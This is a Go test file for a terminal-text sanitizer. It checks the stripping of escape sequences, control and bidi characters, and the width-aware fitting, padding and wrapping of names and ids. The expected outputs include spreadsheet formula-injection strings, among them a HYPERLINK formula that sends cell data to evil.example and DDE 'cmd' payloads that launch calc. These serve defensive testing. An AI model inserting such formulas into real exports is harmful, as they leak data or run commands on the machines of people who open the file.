package safetext_test

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/charmbracelet/x/ansi"
	"github.com/shadowview/shadow/internal/hostile"
	. "github.com/shadowview/shadow/internal/safetext"
)

// assertSafe checks the properties every output of this package must have.
func assertSafe(t *testing.T, in, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("invalid UTF-8 out of %q: %q", in, out)
	}
	for _, r := range out {
		switch {
		case r == 0x1b:
			t.Fatalf("ESC survived in %q -> %q", in, out)
		case r < 0x20 || (r >= 0x7f && r <= 0x9f):
			t.Fatalf("control %U survived in %q -> %q", r, in, out)
		case unicode.Is(unicode.Cf, r):
			t.Fatalf("format character %U survived in %q -> %q", r, in, out)
		case (r >= 0xfe00 && r <= 0xfe0f) || (r >= 0xe0100 && r <= 0xe01ef):
			t.Fatalf("variation selector %U survived in %q -> %q", r, in, out)
		}
	}
}

func TestCleanHostile(t *testing.T) {
	want := map[string]string{
		"csi recolour":      "AliceRED",
		"csi cursor home":   "Alice",
		"csi cursor up":     "Boboverwrite",
		"osc title":         "Carol",
		"osc 8 link":        "click me",
		"osc 52 clipboard":  "Dave",
		"dcs":               "Eve",
		"apc":               "Frank",
		"pm and sos":        "Grace",
		"8-bit csi":         "Heidired",
		"8-bit osc":         "Ivan",
		"c1 controls":       "Judy ok", // NEL is a line break, so a space; DCS…ST swallows "x"
		"raw c1 bytes":      "Mallory\uFFFD31m\uFFFD0;t",
		"c0 controls":       "Niago",
		"newlines and tabs": "Oscar  Line2 Tab V F",
		"bidi override":     "Peggy evil.exe txt",
		"bidi isolates":     "Quinn admin x",
		"bidi marks":        "Rupert",
		"zero width":        "Sybil",
		"tags":              "Trent",
		"wide cjk":          "陳大文 (Chan Tai Man)",
		"emoji":             "Ursula 👩💻 🇳🇱",
		"variation":         "Victor ❤ ☺",
		"zalgo":             "W\u0301\u0302\u0303alter",
		"leading mark":      "Xavier",
		"invalid utf8":      "Yv\uFFFD\uFFFDonne\uFFFD",
		"private use":       "Zoe\uFFFD\uFFFD",
		"line separators":   "A B C",
		"unterminated osc":  "keep",
		"esc aborts osc":    "Bold",
		"lone esc at end":   "end",
		"charset designate": "Plain",
		"reset terminal":    "Reset",
		"conceal":           "Secret",
		"alt screen":        "Alt",
		"scroll region":     "PatScroll",
		"window ops":        "Window",
		"ss2 ss3":           "SingleShift",
		"raw c1 controls":   "Raw\uFFFD\uFFFD\uFFFD\uFFFD\uFFFDC1",
		"nul and del":       "Nul Del",
		"soft hyphen":       "Soft",
		"bidi embeddings":   "LTR RTL",
		"formula equals":    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"formula plus":      "+1+cmd|' /C calc'!A0",
		"formula minus":     "-2+3+cmd|' /C calc'!A0",
		"formula at":        "@SUM(1+9)*cmd|' /C calc'!A0",
		"formula tab":       " =1+1",
		"formula cr":        " =1+1",
		"formula fullwidth": "\uff1d1+1",
	}
	for name, in := range hostile.Strings {
		got := Clean(in)
		assertSafe(t, in, got)
		if w, ok := want[name]; !ok {
			t.Errorf("%s: no expectation", name)
		} else if got != w {
			t.Errorf("%s: Clean(%q) = %q, want %q", name, in, got, w)
		}
	}
}

func TestPlainASCIIIsUntouched(t *testing.T) {
	s := "Fleet overview (North) #42 ~ok"
	if Clean(s) != s || Width(s) != len(s) || Fit(s, 100) != s {
		t.Fatal("plain ASCII changed")
	}
	if n := testing.AllocsPerRun(100, func() { _ = Clean(s); _ = Pad(s, 40) }); n > 1 {
		t.Errorf("plain ASCII Clean+Pad allocates %v times, want at most 1 (the padding)", n)
	}
}

func TestFitMeasuresCells(t *testing.T) {
	cases := []struct {
		in    string
		width int
		want  string
	}{
		{"Alexander Hamilton", 9, "Alexande…"},
		{"Alexander", 9, "Alexander"},
		{"Alexander", 1, "…"},
		{"Alexander", 0, ""},
		{"陳大文陳大文", 7, "陳大文…"}, // 3×2 cells + ellipsis
		{"陳大文陳大文", 6, "陳大…"},  // a wide character never straddles the edge
		{"a陳b", 3, "a…"},      // 陳 would end at cell 3, leaving no room for the ellipsis
		{"\x1b[31mRed\x1b[0m", 3, "Red"},
		{"Ursula 👩‍💻", 8, "Ursula …"}, // the joiner goes, so two emoji of 2 cells each
	}
	for _, c := range cases {
		got := Fit(c.in, c.width)
		if got != c.want {
			t.Errorf("Fit(%q, %d) = %q, want %q", c.in, c.width, got, c.want)
		}
		if w := ansi.StringWidth(got); w > c.width {
			t.Errorf("Fit(%q, %d) is %d cells wide", c.in, c.width, w)
		}
	}
}

func TestPadIsExact(t *testing.T) {
	for _, in := range []string{"", "x", "陳大文陳大文", "Ursula 👩‍💻 🇳🇱", hostile.Strings["csi recolour"], hostile.Strings["zalgo"]} {
		for w := 0; w < 16; w++ {
			for name, f := range map[string]func(string, int) string{"Pad": Pad, "PadLeft": PadLeft, "Center": Center} {
				got := f(in, w)
				assertSafe(t, in, got)
				if cw := ansi.StringWidth(got); cw != w {
					t.Errorf("%s(%q, %d) = %q is %d cells", name, in, w, got, cw)
				}
			}
		}
	}
	if PadLeft("42", 5) != "   42" || Center("ab", 5) != " ab  " {
		t.Errorf("alignment: %q %q", PadLeft("42", 5), Center("ab", 5))
	}
}

func TestWrap(t *testing.T) {
	got := Wrap("Alice is a member of team North-East, which is part of North.", 20, 0)
	want := []string{"Alice is a member of", "team North-East,", "which is part of", "North."}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("Wrap = %q", got)
	}
	got = Wrap("one two three four five six", 9, 2)
	if len(got) != 2 || !strings.HasSuffix(got[1], Ellipsis) {
		t.Errorf("Wrap with a line limit = %q", got)
	}
	for _, l := range Wrap(strings.Repeat("陳", 30)+"\x1b[2J", 7, 0) {
		if ansi.StringWidth(l) > 7 {
			t.Errorf("wrapped line %q too wide", l)
		}
		assertSafe(t, "", l)
	}
	if Wrap("x", 0, 0) != nil {
		t.Error("Wrap at width 0 should give no lines")
	}
}

func TestCleanIsIdempotent(t *testing.T) {
	for _, in := range hostile.Strings {
		once := Clean(in)
		if twice := Clean(once); twice != once {
			t.Errorf("Clean not idempotent on %q: %q then %q", in, once, twice)
		}
	}
}

func TestKeepColourKeepsOnlySGR(t *testing.T) {
	in := "\x1b[1;38;5;160mRed\x1b[0m \x1b[2J\x1b[H\x1b]0;t\x07\u202Ex\x1b[38:2::1:2:3mT"
	if got, want := KeepColour(in), "\x1b[1;38;5;160mRed\x1b[0m x\x1b[38:2::1:2:3mT"; got != want {
		t.Fatalf("KeepColour = %q, want %q", got, want)
	}
	if KeepColour("plain") != "plain" {
		t.Fatal("plain text changed")
	}
}

func TestFitMiddleKeepsBothEnds(t *testing.T) {
	for _, c := range []struct {
		in    string
		width int
		want  string
	}{
		{"Ava Eriksen 000417", 13, "Ava Eri…00417"},
		{"Ava Eriksen 000417", 18, "Ava Eriksen 000417"},
		{"usr_7f3a9e0c1d2e9c1", 11, "usr_7f…e9c1"},
		{"abcdef", 3, "a…f"},
		{"abcdef", 2, "a…"},
		{"abcdef", 0, ""},
		{"陳大文陳大文 Chan", 9, "陳大…Chan"}, // the start's cut wide character gives its cell to the end
		{"\x1b[31mAlice\x1b[0m Andersen-Smythe", 9, "Alice…the"},
		{"Zoe\u0301 Ze\u0301phyrine", 6, "Zoe\u0301…ne"}, // the mark stays with its letter
	} {
		got := FitMiddle(c.in, c.width)
		assertSafe(t, c.in, got)
		if got != c.want {
			t.Errorf("FitMiddle(%q, %d) = %q, want %q", c.in, c.width, got, c.want)
		}
	}
}

// TestFitMiddleProperties: for every hostile string and width, the result is safe, fits,
// loses at most the cell a wide character at a cut costs, and is the cleaned text's
// start, an ellipsis and its end (or the whole cleaned text when it fitted).
func TestFitMiddleProperties(t *testing.T) {
	inputs := append([]string{"陳大文陳大文陳大文", "👩‍💻👩‍💻👩‍💻👩‍💻", "e\u0301e\u0301e\u0301e\u0301e\u0301e\u0301", "Ava Eriksen 000417"}, hostile.List()...)
	for _, in := range inputs {
		clean := Clean(in)
		for width := 0; width <= ansi.StringWidth(clean)+2; width++ {
			got := FitMiddle(in, width)
			assertSafe(t, in, got)
			w := ansi.StringWidth(got)
			if w > width {
				t.Fatalf("FitMiddle(%q, %d) = %q is %d cells", in, width, got, w)
			}
			if ansi.StringWidth(clean) <= width {
				if got != clean {
					t.Fatalf("FitMiddle(%q, %d) = %q, want the whole %q", in, width, got, clean)
				}
				continue
			}
			if width >= 3 && w < width-1 {
				t.Fatalf("FitMiddle(%q, %d) = %q wastes room (%d cells)", in, width, got, w)
			}
			if width < 3 {
				continue
			}
			head, tail, ok := strings.Cut(got, Ellipsis)
			for ok && !strings.HasPrefix(clean, head) {
				// the cleaned text may hold an ellipsis of its own: cut at the next one
				var h2 string
				h2, tail, ok = strings.Cut(tail, Ellipsis)
				head += Ellipsis + h2
			}
			if !ok || !strings.HasPrefix(clean, head) || !strings.HasSuffix(clean, tail) {
				t.Fatalf("FitMiddle(%q, %d) = %q is not a start, … and an end of %q", in, width, got, clean)
			}
		}
	}
}

// An id is never split across lines while it fits on one: a hyphen, colon or slash is
// part of its word, spaces are the only break points (the explain panel once showed
// "(dashboard:d-acme-" on one line and "fuel)" on the next).
func TestWrapKeepsIdsWhole(t *testing.T) {
	for _, tc := range []struct {
		in    string
		width int
		ids   []string
	}{
		{"Allowed by a direct grant on (dashboard:d-acme-fuel) for team North-East.", 30, []string{"(dashboard:d-acme-fuel)", "North-East."}},
		{"usr_7f3a-e9c1-0042 read-only via role:fleet-manager-eu", 20, []string{"usr_7f3a-e9c1-0042", "role:fleet-manager-eu"}},
		{"a\x1b[31m-b\tteam:x-y-z\u202e-q", 9, []string{"a-b", "team:x-y-z-q"}},
	} {
		for w := 4; w <= tc.width; w++ {
			got := Wrap(tc.in, w, 0)
			joined := strings.Join(got, "\n")
			for _, id := range tc.ids {
				if Width(id) <= w && !strings.Contains(joined, id) {
					t.Errorf("Wrap(%q, %d) broke %q: %q", tc.in, w, id, got)
				}
			}
			for _, l := range got {
				if Width(l) > w {
					t.Errorf("Wrap(%q, %d) line %q too wide", tc.in, w, l)
				}
				assertSafe(t, tc.in, l)
			}
		}
	}
	// A word wider than a whole line is the one case it is cut, and nothing is lost.
	long := strings.Repeat("ab-", 10)
	got := Wrap(long, 7, 0)
	if strings.Join(got, "") != long {
		t.Errorf("a long word lost text: %q", got)
	}
	for _, in := range hostile.Strings {
		for _, l := range Wrap(in, 6, 0) {
			if Width(l) > 6 {
				t.Errorf("Wrap(%q) line %q too wide", in, l)
			}
			assertSafe(t, in, l)
		}
	}
}
